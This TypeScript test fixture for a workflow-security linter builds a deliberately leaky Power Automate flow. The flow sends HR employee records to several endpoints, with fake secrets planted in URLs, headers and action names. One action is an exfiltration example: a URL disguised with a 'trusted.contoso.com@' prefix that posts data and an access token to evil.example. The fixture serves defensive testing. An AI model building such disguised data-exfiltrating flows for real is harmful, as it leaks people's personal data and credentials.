import { ALNUM, BASE64, FakeSecrets } from '../unit/secrets/fake-secrets';

// Every kind of secret a URL, a header or a name can carry, planted in one flow that several
// rules report (exfiltration/http-data-path and dlp/endpoint-denied quote the URL,
// reliability/dangling-reference quotes names, secrets/hardcoded-secret masks them itself).
// The CLI and the language server tests check that no 8 characters in a row of any come out.

const fake = new FakeSecrets(20240612);
export const SECRETS = {
  sig: fake.chars(BASE64.replace(/[+/]/g, ''), 43),
  code: fake.chars(ALNUM, 54),
  apiKey: fake.chars(ALNUM, 40),
  password: fake.chars(ALNUM, 20),
  token: fake.chars(ALNUM, 48),
  bearer: fake.chars(ALNUM, 64),
  headerKey: fake.chars(ALNUM, 32),
  // Action names: GitHub token and Stripe key shapes, which the detectors know wherever they sit.
  nameToken: `gh${'p_'}${fake.chars(ALNUM, 36)}`,
  nameKey: `sk_${'live_'}${fake.chars(ALNUM, 24)}`,
};
/** The dangling reference differs from the action it means in its last character, so the hint names both. */
export const NEAR_TOKEN = `${SECRETS.nameToken.slice(0, -1)}${SECRETS.nameToken.endsWith('A') ? 'B' : 'A'}`;
/** An action name with terminal controls: ESC starts a colour sequence, BEL rings. */
export const CONTROL_NAME = 'Send\u001b[31m_red\u0007_alert';

function http(uri: string, after: string, headers: Record<string, string> = {}): object {
  return { runAfter: { [after]: ['Succeeded'] }, type: 'Http', inputs: { method: 'POST', uri, headers: { 'Content-Type': 'application/json', ...headers }, body: "@body('Get_items')" } };
}

export function leakyFlow(): object {
  const s = SECRETS;
  const actions: Record<string, object> = {
    Get_items: {
      runAfter: {},
      type: 'OpenApiConnection',
      inputs: {
        host: { connectionName: 'shared_sharepointonline', operationId: 'GetItems', apiId: '/providers/Microsoft.PowerApps/apis/shared_sharepointonline' },
        parameters: { dataset: 'https://contoso.sharepoint.com/sites/HR', table: 'Employees' },
        authentication: "@parameters('$authentication')",
      },
    },
    Send_logic_app: http(`https://prod-01.westeurope.logic.azure.com:443/workflows/abc/triggers/manual/paths/invoke?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=${s.sig}`, 'Get_items'),
    Send_function: http(`https://fn-partner.azurewebsites.net/api/Ingest?code=${s.code}==`, 'Send_logic_app'),
    Send_api: http(`https://api.partner.example/v1/upload?api_key=${s.apiKey}&format=json`, 'Send_function', { Authorization: `Bearer ${s.bearer}`, 'x-api-key': s.headerKey }),
    Send_userinfo: http(`https://svc:${s.password}@files.partner.example/upload`, 'Send_api'),
    Send_disguised: http(`https://trusted.contoso.com@evil.example/collect?access_token=${s.token}`, 'Send_userinfo'),
    [s.nameKey]: http('https://collector.example.net/v1', 'Send_disguised'),
    [CONTROL_NAME]: http('https://alerts.example.net/v1', s.nameKey),
    [s.nameToken]: { runAfter: { [CONTROL_NAME]: ['Succeeded'] }, type: 'Compose', inputs: 'done' },
    Compose_ref: { runAfter: { [s.nameToken]: ['Succeeded'] }, type: 'Compose', inputs: `@body('${NEAR_TOKEN}')` },
  };
  return {
    properties: {
      displayName: 'Leaky flow',
      connectionReferences: {
        shared_sharepointonline: { runtimeSource: 'embedded', connection: { connectionReferenceLogicalName: 'contoso_sharepoint' }, api: { name: 'shared_sharepointonline' } },
      },
      definition: {
        $schema: 'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#',
        contentVersion: '1.0.0.0',
        parameters: { $connections: { defaultValue: {}, type: 'Object' }, $authentication: { defaultValue: {}, type: 'SecureObject' } },
        triggers: { Recurrence: { recurrence: { frequency: 'Day', interval: 1 }, type: 'Recurrence' } },
        actions,
      },
    },
    schemaVersion: '1.0.0.0',
  };
}

export const POLICY = {
  name: 'Leak test policy',
  default: 'nonBusiness',
  business: ['shared_sharepointonline', 'Http'],
  endpoints: { Http: [{ allow: 'https://trusted.contoso.com*' }, { deny: '*' }] },
};

/** Every 8-character piece of every planted secret found in `text`, by the secret's name (never the piece itself). */
export function leaks(text: string): string[] {
  const found: string[] = [];
  const planted: [string, string][] = [...Object.entries(SECRETS), ['nearToken', NEAR_TOKEN]];
  for (const [name, secret] of planted) {
    for (let i = 0; i + 8 <= secret.length; i++) {
      if (text.includes(secret.slice(i, i + 8))) {
        found.push(`${name} (at ${i} of ${secret.length})`);
        break;
      }
    }
  }
  return found;
}

